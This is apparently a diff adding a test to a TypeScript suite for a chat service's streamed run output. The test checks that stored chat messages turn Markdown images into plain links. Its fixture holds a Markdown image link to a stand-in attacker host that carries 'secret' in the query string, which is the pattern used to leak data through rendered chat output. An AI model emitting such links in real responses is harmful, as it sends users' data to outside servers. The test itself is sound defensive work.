@@ -55,6 +55,18 @@ describe('the answer of a run as a stream', () => {
     expect(history.results).toMatchObject([{ trigger: 'api', version: 1 }]);
   });
 
+  it('is the raw text of the run, and among messages Markdown that loads nothing from elsewhere', async () => {
+    const picture = '![x](https://evil.example/p?d=secret)';
+    const id = await create([{ id: 'out', kind: 'template', params: { template: `Look: ${picture} \`${picture}\`` } }]);
+    const response = await stream(id, { message: 'Show it' });
+    expect(await response.text()).toBe(`Look: ${picture} \`${picture}\``);
+    const session = response.headers.get('x-chat-session-id');
+    const { results } = await owner.get<{ results: { text: string }[] }>(
+      `/microservices/chat-sessions/${session}/messages/`,
+    );
+    expect(results.at(-1)!.text).toBe(`Look: [x](https://evil.example/p?d=secret) \`${picture}\``);
+  });
+
   it('gives what a language model writes while it writes it', async () => {
     const id = await create([{ id: 'say', kind: 'language_model', params: { prompt: 'Tell me a story' } }]);
     const response = await stream(id);
